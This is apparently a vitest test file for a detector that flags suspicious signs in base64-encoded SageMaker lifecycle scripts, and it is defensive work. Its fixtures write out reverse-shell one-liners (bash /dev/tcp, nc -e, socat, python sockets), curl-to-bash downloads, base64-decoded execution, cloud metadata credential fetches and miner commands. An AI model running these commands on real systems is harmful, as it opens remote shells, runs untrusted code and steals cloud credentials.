import { describe, expect, test } from 'vitest';
import { SIGNS, type Sign, signsOf } from '../../src/resources/script-signs.ts';

const base64 = (script: string | Buffer) => Buffer.from(script).toString('base64');
const KEY = `AKIA${'Q'.repeat(16)}`;
const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzzzz';

const BEARS: Readonly<Record<Sign, readonly string[]>> = {
  'aws-key': [
    `export AWS_ACCESS_KEY_ID=${KEY}`,
    `aws configure set aws_access_key_id ASIA${'2'.repeat(16)}`,
    `aws_secret_access_key = ${SECRET}`,
    `AWS_SECRET_ACCESS_KEY="${SECRET}"`,
    `{"aws_secret_access_key": "${SECRET}"}`,
    `# ${KEY}`,
  ],
  'private-key': [
    '-----BEGIN RSA PRIVATE KEY-----',
    '-----BEGIN PRIVATE KEY-----',
    '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl',
    '-----BEGIN ENCRYPTED PRIVATE KEY-----',
  ],
  token: [
    `git clone https://ghp_${'a1'.repeat(18)}@github.com/acme/x`,
    `TOKEN=github_pat_${'a'.repeat(50)}`,
    `glpat-${'a'.repeat(20)}`,
    `huggingface-cli login --token hf_${'a'.repeat(34)}`,
    `xoxb-${'1'.repeat(24)}`,
  ],
  'url-password': [
    'pip config set global.index-url https://ana:correct-horse@pypi.acme.example/simple',
    'psql postgres://ml:hunter22@db/x',
  ],
  'reverse-shell': [
    'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
    'sh -i &> /dev/udp/198.51.100.9/53',
    'exec 5<>/dev/tcp/198.51.100.9/443; cat <&5 | sh >&5',
    'nc 198.51.100.9 4444 -e /bin/sh',
    'ncat -nv 198.51.100.9 443 --sh-exec "bash -i"',
    'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f',
    'mkfifo /tmp/s\nsh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.9:443 > /tmp/s',
    'socat tcp:198.51.100.9:443 EXEC:/bin/bash,pty',
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.9",4444));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
  ],
  'piped-download': [
    'curl -fsSL https://get.acme.example/install.sh | bash',
    'wget -qO- http://198.51.100.9/a|sh',
    'curl https://x.example/a | sudo -E bash -',
    'curl https://x.example/a | /usr/bin/env bash',
    'curl -s https://x.example/a.gz | gunzip | sh',
    'curl -s https://x.example/a | tee /tmp/a | sudo bash',
    'curl https://x.example/a | python3',
    'curl https://x.example/a | python3.11 -',
    'bash <(curl -s https://x.example/a)',
    'source <(curl -s https://x.example/a)',
    '. <(wget -qO- https://x.example/a)',
    'eval "$(curl -s https://x.example/a)"',
    'bash -c "$(curl -fsSL https://x.example/a)"',
    'sh -xc "`wget -qO- https://x.example/a`"',
    'curl -fsSL \\\n  https://x.example/a \\\n  | bash',
    'cu\0rl https://x.example/a | ba\0sh',
  ],
  'encoded-script': [
    'echo aWQ= | base64 -d | bash',
    'base64 --decode <<< aWQ= | sudo sh',
    'base64 -di payload | python3',
    "python3 -c \"exec(__import__('base64').b64decode('aWQ='))\"",
    'python -c "import zlib;exec(zlib.decompress(b))"',
  ],
  'instance-credentials': [
    'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'M=169.254.169.254; curl $M/latest/meta-data/iam/security-credentials/role > /tmp/c',
    'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI',
    'curl "$AWS_CONTAINER_CREDENTIALS_FULL_URI"',
  ],
  miner: ['./x -o stratum+tcp://pool.example:3333', 'nohup ./xmrig &', 'XMRig --donate-level 1'],
};

/** What people's own scripts do (aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples does most of it, in its words). */
const BEARS_NONE: readonly string[] = [
  '',
  '#!/bin/bash\nset -e\nsudo -u ec2-user -i <<EOF\nsource activate python3\npip install --upgrade pandas\nconda deactivate\nEOF',
  'curl -fsSL https://x.example/install.sh -o /tmp/install.sh && sha256sum -c sums && bash /tmp/install.sh',
  'curl -s https://x.example/a.json | python3 -m json.tool | tee a.json',
  'curl -s https://x.example/a.json | python3.11 -c "import json, sys; print(json.load(sys.stdin))"',
  'curl -s https://x.example/a.json | jq .x',
  'curl -s https://x.example/health || sh fallback.sh',
  'wget -q https://x.example/a.tar.gz; tar xzf a.tar.gz; ls | sh',
  '# curl https://x.example/a | bash\n  # nc 198.51.100.9 4444 -e /bin/sh',
  'timeout 1 bash -c "</dev/tcp/db.acme.example/5432" && echo open',
  'nc -zv db.acme.example 5432',
  'rsync -e ssh a b',
  'ARN=$(jq -r .ResourceArn /opt/ml/metadata/resource-metadata.json)\naws sagemaker list-tags --resource-arn "$ARN"',
  'TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token)\ncurl http://169.254.169.254/latest/meta-data/instance-id',
  'git clone https://$USER:$TOKEN@github.com/acme/x',
  'git clone https://github.com/acme/x@main',
  'export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE',
  'aws_secret_access_key=$(aws secretsmanager get-secret-value --secret-id x)',
  'echo "$CONFIG" | base64 -d > /etc/x.conf',
  'base64 -d a > b; bash c',
  'echo -----BEGIN CERTIFICATE-----',
  'pip install stratum socketio',
];

describe.each(SIGNS)('%s', (sign) => {
  test.each(BEARS[sign])('is borne by %j', (script) => expect(signsOf(base64(script))).toContain(sign));
});

test.each(BEARS_NONE)('no sign is borne by %j', (script) => expect(signsOf(base64(script))).toEqual([]));

test('a script bears as many signs as it has', () => {
  const script = `echo ${KEY}\ncurl http://x.example/xmrig | sh`;
  expect(signsOf(base64(script))).toEqual(['aws-key', 'piped-download', 'miner']);
});

test('what stands behind the padding of base64 is read, too', () =>
  expect(signsOf(`${base64('#')}${base64('\ncurl x.example | sh')}`)).toEqual(['piped-download']));

test('any bytes are a script', () => {
  expect(signsOf(base64(Buffer.from(Array.from({ length: 256 }, (_, byte) => byte))))).toEqual([]);
  expect(signsOf('no base64 at all: äöü')).toEqual([]);
});

/** What a pattern might go over again and again, and what stands before it. */
const TRYING: readonly { readonly begin: string; readonly words: string }[] = [
  ...['curl ', 'curl x|', 'curl -|-', 'nc ', 'nc -', 'mkfifo nc', 'socket', 'exec(', 'base64 -d ', '://a:', '://', 'AKIA', ' ', '\n', '#'],
  ...['| sudo - - ', 'curl |sudo -a ', '-----BEGIN A ', 'aws_secret_access_key = ', 'sh <(', 'eval "$( ', 'socat exec', '/', '| /', '\t#'],
  ...[`curl ${'x'.repeat(390)}|`, `socket${'x'.repeat(490)}`, `| ${'/'.repeat(60)}`],
]
  .map((words) => ({ begin: '', words }))
  .concat(['curl x|', 'curl x|sudo ', 'base64 -d|'].flatMap((begin) => ['/', 'x', '- ', ' '].map((words) => ({ begin, words }))));

/** Content has 16,384 characters of base64 at most (SageMaker API, NotebookInstanceLifecycleHook). Four times that takes about four times as long. */
test.each(TRYING)('however often $words stands behind "$begin", a script is read in no time', ({ begin, words }) => {
  const time = (length: number): number => {
    const content = base64(begin + words.repeat(Math.ceil(length / words.length)).slice(0, length));
    const start = process.cpuUsage();
    signsOf(content);
    const { user, system } = process.cpuUsage(start);
    return (user + system) / 1000;
  };
  time(1_000);
  expect(time(12_288)).toBeLessThan(150);
  expect(time(4 * 12_288)).toBeLessThan(600);
});
